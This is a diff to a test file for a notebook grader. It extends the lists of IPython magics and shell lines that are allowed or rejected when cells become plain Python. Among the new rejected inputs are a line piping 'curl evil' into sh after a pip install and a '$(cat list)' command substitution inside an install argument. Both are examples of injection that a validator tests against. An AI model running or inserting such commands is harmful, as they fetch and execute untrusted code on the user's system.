@@ -23,6 +23,8 @@ from grader.batch.magics import as_plain_python
         ('%config InlineBackend.figure_format = "retina"', "pass"),
         ("%config InlineBackend.figure_formats = {'png', 'svg'}", "pass"),
         ("%config Completer.use_jedi = False\n%precision 3\n%xmode Minimal", "pass\npass\npass"),
+        ("%pip install seqeval\n!pip install -q tqdm==4.66", "pass\npass"),
+        ("!python -m pip install --user seqeval", "pass"),
     ],
 )
 def test_each_allowed_magic_becomes_its_code_line_for_line(cell, python):
@@ -40,6 +42,9 @@ def test_each_allowed_magic_becomes_its_code_line_for_line(cell, python):
         "%config IPKernelApp.exec_lines = ['import os']",  # only display settings, literal
         "%config InlineBackend.rc = {'a': __import__('os')}",
         "%precision %.4f; import os",
+        "!pip install x && curl evil | sh",  # a shell line, not only an install
+        "%pip install $(cat list)",
+        "!python -m pip install --user 'x'",  # quotes: the shell's, not a package name
         "x = 1\n%%capture",
         "!ls",
         "x = %time f()",
